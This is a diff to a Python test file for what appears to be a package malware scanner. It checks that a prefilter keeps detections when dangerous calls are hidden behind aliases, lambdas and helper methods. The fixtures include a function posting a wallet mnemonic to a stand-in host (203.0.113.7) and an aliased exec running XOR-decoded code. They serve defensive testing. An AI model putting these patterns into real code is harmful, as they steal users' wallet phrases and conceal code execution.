@@ -1,10 +1,12 @@
-"""The prefilter is lossless: generated programs give the same findings with and without it."""
+"""The prefilter is lossless: generated programs give the same findings with and without it. Without it every file is
+parsed as a whole, and every function is called."""
 
 from __future__ import annotations
 
 import re
 import textwrap
 
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
@@ -39,6 +41,11 @@ CALLS = (
     "(lambda: {m}.{f}({a}))()",
     "def later():\n    {m}.{f}({a})",
     "class Later:\n    def run(self):\n        alias.{f}({a})",
+    "run = {m}.{f}\ndef later():\n    run({a})",
+    "run = lambda x: {m}.{f}(x)\ndef later():\n    run({a})",
+    "def send(x):\n    {m}.{f}(x)\ndef later():\n    send({a})",
+    "class Later:\n    def send(self, x):\n        {m}.{f}(x)\n    def run(self):\n        self.send({a})",
+    "class Sender:\n    def send(self, x):\n        {m}.{f}(x)\ndef later():\n    Sender().send({a})",
 )
 ACTS = (
     ("os", "system"),
@@ -169,3 +176,50 @@ def test_a_command_of_a_long_setup_script_is_kept_though_nothing_calls_it() -> N
     ]
     assert [one.rule for one in found[0]] == ["install-command"]
     assert found[0] == found[1]
+
+
+CALLED_BY_ANOTHER = """
+import requests
+
+def _log(phrase):
+    requests.post("http://203.0.113.7:5000/check", json={"p": phrase})
+
+def balance(mnemonic):
+    _log(mnemonic)
+    return 0
+"""
+RENAMED = """
+b = exec
+
+def _fit(text, key):
+    made = ""
+    for place, one in enumerate(text):
+        made += chr(ord(one) ^ ord(key[place % len(key)]))
+    b(made)
+
+def colour():
+    _fit("HIDDEN", "kx")
+"""
+
+
+@pytest.mark.parametrize(
+    ("program", "rule"),
+    [
+        (CALLED_BY_ANOTHER, "private-key-sent"),
+        (
+            RENAMED.replace(
+                "HIDDEN", "".join(f"\\x{ord(one) ^ ord('kx'[at % 2]):02x}" for at, one in enumerate("print(1)"))
+            ),
+            "decoded-code",
+        ),
+    ],
+    ids=["a wallet's phrase goes to a helper that sends it", "exec under another name"],
+)
+@pytest.mark.parametrize("padding", ["", PADDING], ids=["small", "large"])
+def test_what_a_waiting_function_passes_on_is_followed(program: str, rule: str, padding: str) -> None:
+    found = analyse(
+        [SourceFile("package/__init__.py", (program + padding).encode())],
+        kind="wheel",
+        package=PackageRef("example", "1.0"),
+    ).findings
+    assert [one.rule[: len(rule)] for one in found] == [rule]
